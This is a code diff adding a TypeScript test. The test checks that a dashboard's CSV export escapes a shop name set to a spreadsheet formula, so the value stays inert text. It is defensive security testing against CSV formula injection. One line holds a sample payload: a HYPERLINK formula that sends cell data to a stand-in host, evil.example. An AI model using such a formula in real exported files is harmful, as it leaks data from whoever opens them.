@@ -475,6 +475,31 @@ describe('dashboard exports over HTTP', () => {
     ]);
   });
 
+  it('CSV: a shop name a spreadsheet would run stays text', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Apri")';
+    const rename = (from: string, to: string) =>
+      suite.orm.em
+        .getConnection()
+        .execute(
+          `update "public_welfare"."shop_accreditation" set "business_name" = ? where "business_name" = ?`,
+          [to, from],
+        );
+    await rename('Farmacia Bianchi', formula);
+    try {
+      const res = await get(operator, `/files/monitoring/dashboard.csv?campaignId=${main.id}`);
+      const lines = Buffer.from(await res.arrayBuffer())
+        .toString('utf8')
+        .slice(1)
+        .split('\r\n');
+      expect(lines).toContain(
+        `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Apri"")";Accreditato;2;65,50`,
+      );
+      expect(lines.some((l) => /^"?[=+\-@]/.test(l) && !/^-?\d/.test(l))).toBe(false);
+    } finally {
+      await rename(formula, 'Farmacia Bianchi');
+    }
+  });
+
   it('Excel: one sheet per table, bold Italian headers, euro amounts as numbers', async () => {
     const res = await get(operator, `/files/monitoring/dashboard.xlsx?campaignId=${main.id}`);
     expect(res.status).toBe(200);
